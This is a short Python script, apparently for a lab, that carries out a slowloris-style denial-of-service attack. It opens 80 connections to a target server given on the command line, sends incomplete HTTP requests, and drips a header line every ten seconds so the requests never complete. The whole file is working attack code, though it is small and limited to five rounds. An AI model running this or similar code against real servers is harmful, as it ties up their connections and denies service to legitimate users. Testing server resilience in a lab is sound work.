#!/usr/bin/env python3
"""slow.py SERVER: 80 requests that are sent a line every ten seconds and never come to their end, as slowloris does."""
import socket, sys, time

open_ones = []
for _ in range(80):
    one = socket.create_connection((sys.argv[1], 80))
    one.sendall(b"GET / HTTP/1.1\r\nHost: web.lab.example\r\n")
    open_ones.append(one)
for turn in range(5):
    time.sleep(10)
    for one in open_ones: one.sendall(b"X-a: %d\r\n" % turn)
time.sleep(2)
